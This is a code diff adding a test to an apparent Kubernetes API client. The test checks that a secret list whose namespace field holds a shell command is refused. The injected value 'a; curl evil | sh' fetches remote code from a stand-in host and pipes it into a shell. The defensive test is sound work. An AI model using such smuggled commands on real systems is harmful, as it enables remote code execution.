@@ -176,6 +176,15 @@ test('a name that no URL can hold is asked for all the same, and refused by the 
   expect(server.requests).toHaveLength(1);
 });
 
+test('a list of secrets with a namespace that is a command is refused: remedies name namespaces', async () => {
+  const items = '[{"metadata":{"name":"ecr-credentials","namespace":"a; curl evil | sh"}}]';
+  const text = sized('200 OK', `{"kind":"PartialObjectMetadataList","metadata":{},"items":${items}}`);
+  const api = await attackedBy((socket) => socket.write(text));
+  await expect(
+    api.listSecretMetadata({ name: 'ecr-credentials', keep: (metadata) => metadata }),
+  ).rejects.toMatchObject({ name: 'Failure', message: expect.stringContaining('is not a Kubernetes') });
+});
+
 describe('a proxy that answers CONNECT', () => {
   const proxies: Record<string, { answer: (socket: Socket) => void; says: object }> = {
     'with headers without end': {
